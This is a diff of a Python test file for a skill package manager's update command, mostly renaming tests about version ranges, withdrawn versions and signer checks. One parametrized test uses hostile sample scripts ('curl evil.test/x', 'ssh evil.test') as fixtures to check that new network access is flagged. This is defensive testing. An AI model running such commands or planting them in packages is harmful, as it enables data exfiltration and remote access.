@@ -1,4 +1,4 @@
-"""Update: the newest that is wanted, shown first, asked by name for what is new; and a check that only looks."""
+"""Update: the newest version within the range, its plan, questions about its gains; and a check without changes."""
 
 from __future__ import annotations
 
@@ -67,7 +67,7 @@ def recall(world: World, hub: Simulator, act, *words: str) -> None:
     world.sources = Sources(world.home)  # each command is a process of its own
 
 
-def test_the_newest_that_the_intent_allows_is_taken_and_the_rest_told(world: World) -> None:
+def test_update_takes_the_newest_allowed_version_and_reports_newer_ones(world: World) -> None:
     world.install("acme:hello@1.0.0")
     want(world, 'hello = { source = "acme", version = "^1" }')
     done = world.update()
@@ -90,7 +90,7 @@ def test_the_plan_is_in_the_question(world: World) -> None:
     assert "~ SKILL.md" in question.details
 
 
-def test_a_dry_run_asks_and_changes_nothing(world: World) -> None:
+def test_a_dry_run_changes_nothing(world: World) -> None:
     world.install("acme:hello@1.0.0")
     want(world, "hello = '*'")
     before = world.snapshot()
@@ -100,12 +100,12 @@ def test_a_dry_run_asks_and_changes_nothing(world: World) -> None:
     assert done.changes["hello"].after.version == "2.0.0"
 
 
-def test_what_is_not_installed_cannot_be_updated(world: World) -> None:
+def test_update_of_an_unknown_skill_is_not_found(world: World) -> None:
     world.install("acme:hello@1.0.0")
     refused(world, NotFound, lambda: world.update("hello", "nobody"))
 
 
-def test_a_downgrade_is_called_one_and_comes_only_if_the_intent_wants_it(world: World) -> None:
+def test_a_downgrade_is_named_as_such_and_follows_the_intent(world: World) -> None:
     world.install("acme:hello@1.1.0")
     want(world, 'hello = { source = "acme", version = "1.0.0" }')
     world.update(answers=Answers("yes"))
@@ -113,7 +113,7 @@ def test_a_downgrade_is_called_one_and_comes_only_if_the_intent_wants_it(world: 
     assert version(world) == "1.0.0"
 
 
-def test_a_yanked_one_stays_and_is_told_a_withdrawn_one_goes(world: World, hub: Simulator) -> None:
+def test_a_yanked_version_stays_with_a_warning_and_a_withdrawn_one_is_replaced(world: World, hub: Simulator) -> None:
     world.install("acme:hello@2.0.0")
     want(world, 'hello = { source = "acme" }')
     recall(world, hub, yank, "hello@2.0.0", "it stutters")
@@ -126,7 +126,7 @@ def test_a_yanked_one_stays_and_is_told_a_withdrawn_one_goes(world: World, hub: 
     assert "Downgrade hello to 1.1.0?" in [question.message for question in world.answers.seen]
 
 
-def test_where_nothing_else_is_allowed_it_is_told(world: World, hub: Simulator) -> None:
+def test_a_yanked_version_without_alternative_is_reported(world: World, hub: Simulator) -> None:
     world.install("acme:hello@2.0.0")
     recall(world, hub, yank, "hello@2.0.0", "it stutters")
     want(world, 'hello = { source = "acme", version = "^2" }')
@@ -136,7 +136,7 @@ def test_where_nothing_else_is_allowed_it_is_told(world: World, hub: Simulator) 
 
 
 @pytest.mark.parametrize("kind", ["tag", *SAMPLE])
-def test_a_place_is_updated_to_what_it_is_now(reaching: Reaching, upstream: Upstream, kind: str) -> None:
+def test_a_place_is_updated_to_its_present_content(reaching: Reaching, upstream: Upstream, kind: str) -> None:
     reaching.install(upstream.ref(kind))
     assert reaching.behind().skills == ()
     upstream.have(NEWER)
@@ -150,7 +150,7 @@ def test_a_place_is_updated_to_what_it_is_now(reaching: Reaching, upstream: Upst
     assert reaching.behind().skills == ()
 
 
-def test_a_commit_that_was_asked_for_stays(reaching: Reaching, upstream: Upstream) -> None:
+def test_a_pinned_commit_is_not_updated(reaching: Reaching, upstream: Upstream) -> None:
     reaching.install(upstream.ref("commit"))
     upstream.have(NEWER)
     assert reaching.behind().skills == ()
@@ -166,7 +166,7 @@ def test_a_commit_that_changes_another_skill_is_no_update(reaching: Reaching, up
     assert reaching.lock_bytes() == before
 
 
-def test_a_local_folder_is_updated_to_what_it_is_now(reaching: Reaching) -> None:
+def test_a_local_folder_is_updated_to_its_present_content(reaching: Reaching) -> None:
     folder = skill(reaching.base, "deploy")
     reaching.install(str(folder))
     assert reaching.behind().skills == ()
@@ -177,8 +177,8 @@ def test_a_local_folder_is_updated_to_what_it_is_now(reaching: Reaching) -> None
 
 
 @pytest.mark.parametrize("kind", [*SAMPLE, "source", "offline"])
-def test_a_check_writes_nothing_at_all(reaching: Reaching, upstream: Upstream, web: Web, kind: str) -> None:
-    """Not even a cache: it could change what the next command finds."""
+def test_a_check_writes_nothing(reaching: Reaching, upstream: Upstream, web: Web, kind: str) -> None:
+    """A check writes no cache either: a cache could change the next command's result."""
     if kind == "source":
         web.acts[WELL_KNOWN] = web.acts[f"/new{WELL_KNOWN}"]
         add_source("docs", web.url(""), Pin(), reaching.ports())
@@ -194,7 +194,7 @@ def test_a_check_writes_nothing_at_all(reaching: Reaching, upstream: Upstream, w
     assert {**snapshot(reaching.base), **snapshot(reaching.top)} == before
 
 
-def test_what_is_new_is_asked_for_by_name(reaching: Reaching, upstream: Upstream) -> None:
+def test_gains_of_an_update_are_asked_about_by_name(reaching: Reaching, upstream: Upstream) -> None:
     reaching.install(upstream.ref("git"))
     upstream.have(MORE)
     error = refused(reaching, Refused, lambda: reaching.update(answers=Answers("yes", capability="no")))
@@ -212,7 +212,7 @@ def test_what_is_new_is_asked_for_by_name(reaching: Reaching, upstream: Upstream
 
 
 @pytest.mark.parametrize("script", ["curl evil.test/x", "import socket", "ssh evil.test"])
-def test_attack_an_update_begins_to_reach_a_network_that_no_url_names(
+def test_attack_an_update_that_gains_unknown_network_access_is_asked_about(
     reaching: Reaching, upstream: Upstream, script: str
 ) -> None:
     reaching.install(upstream.ref("git"))
@@ -235,10 +235,8 @@ def signed(label: str, body: str) -> dict[str, bytes]:
 
 
 @pytest.mark.parametrize("after", ["another", "nobody"])
-def test_attack_an_update_by_another_than_who_signed_before(
-    reaching: Reaching, upstream: Upstream, after: str
-) -> None:
-    """No answer lifts it, and no trust in the other: only another key of the same publisher would."""
+def test_attack_an_update_with_another_signer_is_refused(reaching: Reaching, upstream: Upstream, after: str) -> None:
+    """No answer and no trust in the other signer accepts it; another key of the same publisher would be accepted."""
     for label in ("one", "two"):
         reaching.publishers.trust(Trusted(label, keys=(key(label).public.pem.decode(),)))
     upstream.have(signed("one", "Do it."))
@@ -253,7 +251,7 @@ def test_attack_an_update_by_another_than_who_signed_before(
     assert "better" in reaching.text("deploy")
 
 
-def test_one_that_cannot_be_had_keeps_all_as_they_are(
+def test_one_unavailable_skill_stops_an_update_of_all(
     reaching: Reaching, upstream: Upstream, web: Web, tmp_path: Path
 ) -> None:
     folder = skill(tmp_path, "mail")
@@ -267,25 +265,23 @@ def test_one_that_cannot_be_had_keeps_all_as_they_are(
     assert "Better." in reaching.text("mail")
 
 
-def test_the_intent_may_not_lead_an_update_elsewhere(reaching: Reaching, upstream: Upstream) -> None:
+def test_an_intent_cannot_change_the_source_of_a_locked_skill(reaching: Reaching, upstream: Upstream) -> None:
     reaching.install(upstream.ref("git"))
     upstream.have(NEWER)
     want(reaching, f'deploy = {{ from = "{upstream.ref("site")}" }}')
     refused(reaching, SourceMismatch, lambda: reaching.update())
 
 
-def test_of_what_is_withdrawn_altogether_the_locked_one_is_told(world: World, hub: Simulator) -> None:
+def test_without_a_replacement_the_warning_names_the_withdrawn_version(world: World, hub: Simulator) -> None:
     world.install("acme:hello@1.0.0")
     want(world, 'hello = { source = "acme", version = "^1" }')
     recall(world, hub, withdraw, "hello@1.0.0", "it bites")
     recall(world, hub, withdraw, "hello@1.1.0", "so does it")
-    (told,) = [line for line in world.update().warnings if "withdrawn" in line]
-    assert told == "hello 1.0.0 was withdrawn: it bites; skillhub.toml allows no other version"
+    (warning,) = [line for line in world.update().warnings if "withdrawn" in line]
+    assert warning == "hello 1.0.0 was withdrawn: it bites; skillhub.toml allows no other version"
 
 
-def test_of_what_is_withdrawn_the_version_beyond_the_range_is_told_and_what_to_type(
-    world: World, hub: Simulator
-) -> None:
+def test_the_warning_for_a_withdrawn_version_names_one_outside_of_the_range(world: World, hub: Simulator) -> None:
     world.install("acme:hello@1.0.0")
     want(world, 'hello = { source = "acme", version = "~1.0" }')
     assert not available_updates((), world.ports()).pending
@@ -293,17 +289,17 @@ def test_of_what_is_withdrawn_the_version_beyond_the_range_is_told_and_what_to_t
     assert not available_updates((), world.ports()).pending
     recall(world, hub, withdraw, "hello@1.0.0", "it bites")
     take = "skillhub install 'acme:hello@^2.0.0'"
-    told = f"hello 2.0.0 is available, but ~1.0 is wanted; to install it: {take}"
+    warning = f"hello 2.0.0 is available, but ~1.0 is wanted; to install it: {take}"
     checked = available_updates((), world.ports())
     assert (checked.skills, checked.pending) == ((), True)
-    assert told in checked.warnings
-    assert told in world.update().warnings
+    assert warning in checked.warnings
+    assert warning in world.update().warnings
     world.install("acme:hello@2.0.0")
     assert version(world) == "2.0.0"
     assert not available_updates((), world.ports()).pending
 
 
-def test_attack_what_is_only_told_of_fills_no_memory(tmp_path):
+def test_attack_a_check_keeps_no_files_in_memory(tmp_path):
     simulator, world = Simulator(tmp_path / "hub"), World(tmp_path / "machine")
     simulator.publish()
     world.add_source("acme", simulator)
